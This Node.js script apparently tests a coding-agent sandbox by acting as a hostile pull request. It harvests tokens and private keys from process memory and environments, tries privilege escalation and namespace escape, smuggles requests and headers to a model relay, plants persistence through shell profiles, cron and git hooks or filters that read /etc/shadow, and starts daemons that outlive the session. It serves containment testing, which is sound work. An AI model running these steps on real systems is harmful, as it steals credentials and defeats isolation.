// What a hostile pull request runs in the machine, as Codex's user: it looks for anything worth taking, for a way out and
// for a place to stay, and prints what it found as one JSON document. Knows nothing that a stranger would not know.
import { spawn, spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { lookup } from "node:dns/promises";
import {
  appendFileSync,
  chmodSync,
  closeSync,
  existsSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
} from "node:fs";
import { readlinkSync, readSync, statSync, writeFileSync } from "node:fs";
import { connect } from "node:net";

/** What keys and tokens look like. */
const LOOKS =
  /(?<![A-Za-z0-9])(?:mf[ck]_[A-Za-z0-9_-]{20,}|sk-[A-Za-z0-9_-]{20,}|gh[oprsu]_[A-Za-z0-9_.-]{20,}|BEGIN [A-Z ]*PRIVATE KEY)/g;
/** The last pid given out stands in /proc/loadavg (proc(5)). */
const PIDS_MAX = Number(readFileSync("/proc/loadavg", "utf8").split(" ")[4]);
const READ_BYTES_MAX = 64 * 1024 * 1024;
const TRY_MS = 4_000;
const HELPER_MS = 60_000;
const REPOSITORY = "/work/repo";

const [task = "attack", mark = ""] = process.argv.slice(2);

/** The published attack: everything of every process that can be opened. */
function search() {
  const found = new Set();
  const opened = [];
  for (let pid = 1; pid <= PIDS_MAX; pid++) {
    // Our own threads have pids as well; what we look for would be found in what we look with.
    if (existsSync(`/proc/self/task/${pid}`)) {
      continue;
    }
    for (const file of ["environ", "cmdline", "mem"]) {
      const text = file === "mem" ? memoryOf(pid) : readAll(`/proc/${pid}/${file}`);
      if (text !== null) {
        opened.push({ pid, file, mine: ownerOf(pid) === process.getuid() });
        for (const [value] of text.matchAll(LOOKS)) {
          found.add(value);
        }
      }
    }
  }
  return {
    found: [...found],
    strangers: opened.filter(({ mine }) => !mine),
    files: [...new Set(opened.map((one) => one.file))],
  };
}

function readAll(path) {
  try {
    return readFileSync(path, "latin1");
  } catch {
    return null;
  }
}

/** All readable ranges of a process, or null if its memory cannot be opened. */
function memoryOf(pid) {
  const maps = readAll(`/proc/${pid}/maps`);
  let file;
  try {
    file = openSync(`/proc/${pid}/mem`, "r");
  } catch {
    return null;
  }
  const pieces = [];
  let left = READ_BYTES_MAX;
  for (const line of (maps ?? "").split("\n")) {
    const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line) ?? [];
    const size = from === undefined ? 0 : Number(BigInt(`0x${to}`) - BigInt(`0x${from}`));
    if (size > 0 && size <= left) {
      const bytes = Buffer.alloc(size);
      try {
        const taken = readSync(file, bytes, 0, size, BigInt(`0x${from}`));
        pieces.push(bytes.toString("latin1", 0, taken));
        left -= taken;
      } catch {
        // The kernel's own page, or one that is gone.
      }
    }
  }
  closeSync(file);
  return pieces.join("\0");
}

function ownerOf(pid) {
  try {
    return statSync(`/proc/${pid}`).uid;
  } catch {
    return null;
  }
}

async function attack() {
  return {
    hidden: hiddenProcesses(),
    search: searchWithControl(["/bin/sh"]),
    searchAsRootOfNamespace: searchWithControl(["unshare", "--user", "--map-root-user", "/bin/sh"]),
    rights: rights(),
    network: await network(),
    relay: await relay(),
    left: leaveBehind(),
    saw: look(),
    daemon: daemon(),
  };
}

/** Processes that are there though they cannot be seen: a signal to them is refused, not lost. */
function hiddenProcesses() {
  const visible = new Set(
    readdirSync("/proc")
      .filter((name) => /^\d+$/.test(name))
      .map(Number),
  );
  const strangers = [...visible].filter((pid) => ownerOf(pid) !== process.getuid());
  const hidden = [];
  const signalled = [];
  for (let pid = 1; pid <= PIDS_MAX; pid++) {
    try {
      process.kill(pid, 0);
      if (!visible.has(pid) && ownerOf(pid) !== process.getuid()) {
        signalled.push(pid);
      }
    } catch (error) {
      if (error.code === "EPERM") {
        hidden.push(pid);
      }
    }
  }
  const opened = hidden.flatMap((pid) =>
    ["environ", "cmdline", "mem", "maps", "status", "stat", "root/etc/shadow", "cwd", "fd/0", "ns/net", "task"].filter(
      (file) => existsSync(`/proc/${pid}/${file}`) || readAll(`/proc/${pid}/${file}`) !== null,
    ),
  );
  for (const pid of hidden) {
    for (const signal of ["SIGUSR1", "SIGSTOP", "SIGKILL"]) {
      try {
        process.kill(pid, signal);
        signalled.push(`${pid} ${signal}`);
      } catch {
        // Refused.
      }
    }
  }
  // 16 is PTRACE_ATTACH, 101 ptrace on this processor.
  const traced = hidden.filter(
    (pid) => run("perl", ["-e", `exit(syscall(101, 16, ${pid}, 0, 0) == -1 ? 1 : 0)`]).status === 0,
  );
  return { hidden: hidden.length, strangers, opened, signalled, traced };
}

/** The same search finds a value in the environment of a process that we are allowed to look at. */
function searchWithControl(shell) {
  const script = 'PLANTED="$1" sleep 120 & sleep 1; "$2" "$3" search; kill $!';
  const planted = `mfk_planted${"x".repeat(20)}${shell.length}`;
  const { stdout, stderr } = run(shell[0], [
    ...shell.slice(1),
    "-c",
    script,
    "sh",
    planted,
    process.execPath,
    process.argv[1],
  ]);
  try {
    return { planted, ...JSON.parse(stdout) };
  } catch {
    return { planted, fault: `${stdout} ${stderr}`.slice(0, 1_000) };
  }
}

function run(command, args) {
  return spawnSync(command, args, { encoding: "utf8", timeout: HELPER_MS, stdio: ["ignore", "pipe", "pipe"] });
}

/** Names of the ways to more rights that worked. */
function rights() {
  const asRoot = (script) => [
    "unshare",
    ["--user", "--map-root-user", "--mount", "--net", "--pid", "--fork", "bash", "-c", script],
  ];
  const ways = {
    sudo: ["sudo", ["-n", "id"]],
    su: ["su", ["-c", "id"]],
    doas: ["doas", ["-n", "id"]],
    pkexec: ["pkexec", ["id"]],
    newuidmap: ["newuidmap", [String(process.pid), "0", "0", "1"]],
    docker: ["docker", ["ps"]],
    systemctl: ["systemctl", ["status"]],
    crontab: ["crontab", ["-l"]],
    at: ["at", ["now"]],
    loginctl: ["loginctl", ["enable-linger"]],
    // setuid, setgid and setgroups on this processor.
    setuid: ["perl", ["-e", "exit(syscall(105, 0) == 0 ? 0 : 1)"]],
    setgid: ["perl", ["-e", "exit(syscall(106, 0) == 0 ? 0 : 1)"]],
    setgroups: ["perl", ["-e", "exit(syscall(116, 0, 0) == 0 ? 0 : 1)"]],
    chroot: ["chroot", ["/", "id"]],
    dmesg: ["dmesg", []],
    reboot: ["/bin/busybox", ["poweroff", "-f"]],
    insmod: ["/bin/busybox", ["insmod", "/modules/virtio_net.ko"]],
    enterInit: ["/bin/busybox", ["nsenter", "-t", "1", "-n", "-m", "true"]],
    enterChannelNetwork: ["/bin/busybox", ["nsenter", "--net=/proc/1/ns/net", "true"]],
    disk: asRoot("mount -t erofs /dev/vda /mnt || cat /dev/vda > /dev/null"),
    shadow: asRoot("cat /etc/shadow /root/source.pack"),
    remountProc: asRoot('mount -t proc proc /mnt && [ "$(ls -d /mnt/[0-9]* | wc -l)" -gt 8 ]'),
    bindAgent: asRoot("echo '// changed' >> /opt/mayfly/agent.mjs"),
    remountRoot: asRoot("mount -o remount,rw / && touch /opt/mayfly/agent.mjs"),
    sysctl: asRoot("echo 0 > /proc/sys/kernel/yama/ptrace_scope"),
    device: asRoot("mknod /tmp/mem c 1 1 && cat /tmp/mem > /dev/null"),
    owner: asRoot("cp /bin/busybox /tmp/root && chown 12345 /tmp/root"),
    cgroup: asRoot("echo 0 > /sys/fs/cgroup/cgroup.procs"),
    freeMemory: asRoot("echo max > /sys/fs/cgroup/codex/memory.max"),
    reachChannel: asRoot("exec 3<>/dev/tcp/10.0.2.2/8080"),
    enterRelayNetwork: ["/bin/busybox", ["nsenter", "--net=/run/mayfly/codex.net", "true"]],
  };
  const worked = Object.entries(ways).filter(([, [command, args]]) => run(command, args).status === 0);
  const setuid = run("find", ["/", "-xdev", "-type", "f", "-perm", "/6000"]).stdout;
  const status = readFileSync("/proc/self/status", "utf8");
  const field = (name) => new RegExp(`^${name}:[ \\t]*(.*)$`, "m").exec(status)?.[1]?.trim() ?? "";
  return {
    tried: Object.keys(ways).length,
    worked: worked.map(([name]) => name),
    // All of the above rest on these, which are allowed.
    controls: {
      namespaces: run(...asRoot("true")).status,
      perl: run("perl", ["-e", "exit(syscall(39) > 0 ? 0 : 1)"]).status,
      busybox: run("/bin/busybox", ["true"]).status,
      find: run("find", ["/bin/busybox", "-type", "f"]).status,
    },
    setuid: setuid.split("\n").filter((line) => line !== ""),
    status: Object.fromEntries(
      ["Uid", "Groups", "CapPrm", "CapEff", "CapBnd", "NoNewPrivs"].map((name) => [name, field(name)]),
    ),
  };
}

/** Addresses that answered in any way. */
async function network() {
  const addresses = [
    ...[22, 80, 443, 6379, 8080, 8081].map((port) => ["10.0.2.2", port]),
    ["10.0.2.3", 53],
    ["10.0.2.15", 8080],
    ["169.254.169.254", 80],
    ["1.1.1.1", 443],
    ["8.8.8.8", 53],
    ["192.168.0.1", 80],
    ["172.17.0.1", 2375],
    ["fd00:ec2::254", 80],
    ["fe80::1", 80],
    ["::1", 8080],
    ...[22, 80, 443, 3000, 5432, 6379, 9229].map((port) => ["127.0.0.1", port]),
  ];
  const tried = await Promise.all(addresses.map(async ([host, port]) => [`${host}:${port}`, await knock(host, port)]));
  const datagrams = await Promise.all(
    ["10.0.2.3", "8.8.8.8", "10.0.2.2"].map(async (host) => [`udp ${host}`, await ask(host)]),
  );
  const name = await lookup("example.com").then(
    ({ address }) => address,
    (error) => error.code,
  );
  return {
    reached: tried.filter(([, outcome]) => outcome === "connected").map(([address]) => address),
    answered: datagrams.filter(([, outcome]) => outcome === "answered").map(([address]) => address),
    outcomes: Object.fromEntries([...tried, ...datagrams]),
    name,
    control: await knock("127.0.0.1", 8080),
  };
}

function knock(host, port) {
  return new Promise((resolve) => {
    const socket = connect({ host, port, timeout: TRY_MS });
    socket.on("connect", () => socket.destroy(resolve("connected")));
    socket.on("timeout", () => socket.destroy(resolve("ETIMEDOUT")));
    socket.on("error", (error) => resolve(error.code));
  });
}

function ask(host) {
  const question = Buffer.from("000101000001000000000000076578616d706c6503636f6d0000010001", "hex");
  return new Promise((resolve) => {
    const socket = createSocket("udp4");
    const end = (outcome) => {
      clearTimeout(timer);
      socket.close();
      resolve(outcome);
    };
    const timer = setTimeout(end, TRY_MS, "silence");
    socket.on("message", () => end("answered"));
    socket.on("error", (error) => end(error.code));
    socket.send(question, 53, host, (error) => error && end(error.code));
  });
}

/** The first line that the relay answers to each of these. */
async function relay() {
  const body = JSON.stringify({
    model: "gpt-5.5",
    input: [{ type: "message", role: "user", content: [{ type: "input_text", text: "smuggled" }] }],
    stream: true,
    store: false,
  });
  const post = (target, ...headers) =>
    [
      `POST ${target} HTTP/1.1`,
      "host: relay",
      "connection: close",
      ...headers,
      `content-length: ${body.length}`,
      "",
      body,
    ].join("\r\n");
  const json = "content-type: application/json";
  const refused = {
    "GET /v1/responses": "GET /v1/responses HTTP/1.1\r\nhost: relay\r\nconnection: close\r\n\r\n",
    "GET /shutdown": "GET /shutdown HTTP/1.1\r\nhost: relay\r\nconnection: close\r\n\r\n",
    "POST /shutdown": post("/shutdown", json),
    "GET /v1/models": "GET /v1/models HTTP/1.1\r\nhost: relay\r\nconnection: close\r\n\r\n",
    "POST /v1/key": post("/v1/key", json),
    "POST /v1/claim": post("/v1/claim", json),
    "POST /v1/result": post("/v1/result", json),
    "POST /v1/freeze": post("/v1/freeze", json),
    "GET /v1/source": "GET /v1/source HTTP/1.1\r\nhost: relay\r\nconnection: close\r\n\r\n",
    "POST /v1/files": post("/v1/files", json),
    query: post("/v1/responses?key=1", json),
    slash: post("/v1/responses/", json),
    dots: post("/v1/../v1/responses", json),
    encoded: post("/v1/%72esponses", json),
    absolute: post("http://10.0.2.2:8080/v1/responses", json),
    elsewhere: post("http://api.example.com/v1/responses", json),
    connect: "CONNECT 10.0.2.2:8080 HTTP/1.1\r\nhost: 10.0.2.2\r\n\r\n",
    gzip: post("/v1/responses", json, "content-encoding: gzip"),
    twoLengths: post("/v1/responses", json, "content-length: 1"),
    twoFramings: post("/v1/responses", json, "transfer-encoding: chunked"),
    noHttp: "\u0016\u0003\u0001\u0000\u0000",
  };
  const answers = {};
  for (const [name, text] of Object.entries(refused)) {
    answers[name] = await say(text);
  }
  const smuggled = [
    `authorization: Bearer ${mark}`,
    `openai-organization: ${mark}`,
    `openai-project: ${mark}`,
    `x-api-key: ${mark}`,
    `cookie: ${mark}`,
    `user-agent: ${mark}`,
    `x-forwarded-host: ${mark}`,
    `accept: ${mark}`,
  ];
  return { answers, smuggled: await say(post("/v1/responses", json, ...smuggled)) };
}

function say(text) {
  return new Promise((resolve) => {
    const socket = connect({ host: "127.0.0.1", port: 8080, timeout: HELPER_MS });
    let said = "";
    socket.on("data", (data) => (said += data.toString("latin1")));
    socket.on("timeout", () => socket.destroy());
    socket.on("error", (error) => (said ||= error.code));
    socket.on("close", () => resolve(said.split("\r\n")[0]));
    socket.write(text, "latin1");
  });
}

/** Places where something could stay. */
const places = () => [
  "/home/codex/.profile",
  "/home/codex/.bashrc",
  "/tmp/intruder",
  "/dev/shm/intruder",
  "/opt/intruder",
  "/opt/mayfly/agent.mjs",
  "/opt/mayfly/intruder",
  "/opt/node/bin/intruder",
  "/opt/codex/bin/intruder",
  "/usr/local/bin/git",
  "/etc/profile.d/intruder.sh",
  "/etc/cron.d/intruder",
  "/var/spool/cron/crontabs/codex",
  "/etc/ld.so.preload",
  "/etc/gitconfig",
  "/run/mayfly/intruder",
  "/run/intruder",
  "/root/intruder",
  "/intruder",
  "/lib/systemd/system/intruder.service",
];

/** Which of them could be written. Then the repository itself: whatever git may be brought to run. */
function leaveBehind() {
  const written = places().filter((path) => {
    try {
      appendFileSync(path, `\n# ${mark}\n`);
      return true;
    } catch {
      return false;
    }
  });
  const git = (...args) => run("git", ["-C", REPOSITORY, "config", ...args]);
  mkdirSync(`${REPOSITORY}/.git/hooks`, { recursive: true });
  for (const hook of [
    "post-index-change",
    "pre-commit",
    "post-checkout",
    "fsmonitor-watchman",
    "reference-transaction",
  ]) {
    writeFileSync(`${REPOSITORY}/.git/hooks/${hook}`, ranScript(hook));
    chmodSync(`${REPOSITORY}/.git/hooks/${hook}`, 0o755);
  }
  for (const name of ["fsmonitor", "external", "textconv", "clean", "pager", "ssh"]) {
    writeFileSync(`${REPOSITORY}/.git/${name}.sh`, ranScript(name));
    chmodSync(`${REPOSITORY}/.git/${name}.sh`, 0o755);
  }
  git("core.fsmonitor", `${REPOSITORY}/.git/fsmonitor.sh`);
  git("core.hooksPath", `${REPOSITORY}/.git/hooks`);
  git("core.pager", `${REPOSITORY}/.git/pager.sh`);
  git("core.sshCommand", `${REPOSITORY}/.git/ssh.sh`);
  git("diff.external", `${REPOSITORY}/.git/external.sh`);
  git("diff.evil.textconv", `${REPOSITORY}/.git/textconv.sh`);
  // What the filter prints becomes the file's content in the patch: it shows who ran it, and what that one could do.
  git(
    "filter.evil.clean",
    `${REPOSITORY}/.git/clean.sh; id -u; cat /etc/shadow /proc/1/environ 2>&1; ls -A ${REPOSITORY}/.git/ran`,
  );
  git("filter.evil.required", "true");
  writeFileSync(`${REPOSITORY}/.gitattributes`, "*.evil filter=evil diff=evil\n");
  writeFileSync(`${REPOSITORY}/probe.evil`, "nothing ran\n");
  return { written };
}

function ranScript(name) {
  return `#!/bin/sh\nmkdir -p ${REPOSITORY}/.git/ran\necho x > ${REPOSITORY}/.git/ran/${name}-$(/usr/bin/id -u)\necho x > /tmp/ran-${mark}\n`;
}

/** Which places carry a mark of some run. */
function look() {
  return places().filter((path) => /^# intruder-/m.test(readAll(path) ?? ""));
}

/** Stays when Codex ends, and writes as soon as its result is being gathered. */
function daemon() {
  const script = [
    `echo beating > ${REPOSITORY}/beat.txt`,
    `while [ ! -e /home/codex/out/index ]; do /bin/busybox usleep 20000; done`,
    `while :; do echo late > ${REPOSITORY}/late.txt; echo late >> ${REPOSITORY}/beat.txt; done`,
  ].join("\n");
  for (const signal of ["ignore HUP", "ignore HUP TERM"]) {
    const trap = `trap '' ${signal.replace("ignore ", "")}\n`;
    // Twice detached: a session of its own, and its parent is gone.
    spawn("setsid", ["--fork", "sh", "-c", trap + script], { detached: true, stdio: "ignore" }).unref();
  }
  return readlinkSync("/proc/self/cwd");
}

const report = { search, attack, look }[task];
process.stdout.write(`${JSON.stringify(await report())}\n`);
process.exit(0);
